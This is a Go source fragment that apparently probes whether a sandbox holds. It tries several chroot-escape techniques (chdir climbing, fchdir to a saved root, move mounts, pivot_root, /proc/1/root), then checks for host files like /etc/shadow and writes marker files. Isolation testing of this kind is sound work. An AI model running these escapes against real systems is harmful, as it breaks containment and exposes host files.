package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

// Leaves chroots of its own in every known way, and looks where it is then.
func attack(where string) {
	switch where {
	case "host":
		for _, how := range []string{"chdir", "fchdir", "move", "pivot", "init"} {
			again(how, 0)
			nested("" + how)
		}
		return
	case "container":
		return
	}
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return
	}
	os.MkdirAll("/tmp/jail/old", 0o755)
	switch where {
	case "chdir":
		tried("chroot", unix.Chroot("/tmp/jail"))
		for range 64 {
			unix.Chdir("..")
		}
		tried("chroot up", unix.Chroot("."))
	case "fchdir":
		unix.Chroot("/tmp/jail")
		tried("fchdir", unix.Fchdir(root))
		for range 64 {
			unix.Chdir("..")
		}
		tried("chroot up", unix.Chroot("."))
	case "move":
		tried("bind root", unix.Mount("/", "/tmp/jail", "", unix.MS_BIND|unix.MS_REC, ""))
		unix.Chdir("/tmp/jail")
		tried("move to /", unix.Mount(".", "/", "", unix.MS_MOVE, ""))
		tried("chroot there", unix.Chroot("."))
	case "pivot":
		unix.Mount("jail", "/tmp/jail", "tmpfs", 0, "size=16k")
		os.MkdirAll("/tmp/jail/old", 0o755)
		tried("pivot", unix.PivotRoot("/tmp/jail", "/tmp/jail/old"))
		tried("pivot dots", unix.PivotRoot(".", "."))
		unix.Unmount("/", unix.MNT_DETACH)
		unix.Unmount("/old", unix.MNT_DETACH)
	case "init":
		tried("chroot to init's", unix.Chroot("/proc/1/root"))
		tried("chdir to init's", unix.Chdir("/proc/1/cwd"))
	}
	for _, base := range []string{"", "..", "../../../../../..", "/old", fmt.Sprint("/proc/self/fd/", root, "/..")} {
		for _, name := range []string{"etc/shadow", "boot", "var/lib", "etc/fstab", "root/.profile"} {
			if _, err := os.Lstat(base + "/" + name); err == nil {
				say("ok", "got out by "+where+": "+base+"/"+name)
			}
		}
		os.WriteFile(base+"/tmp/"+evil, []byte(evil), 0o666)
	}
	say("done", where)
}
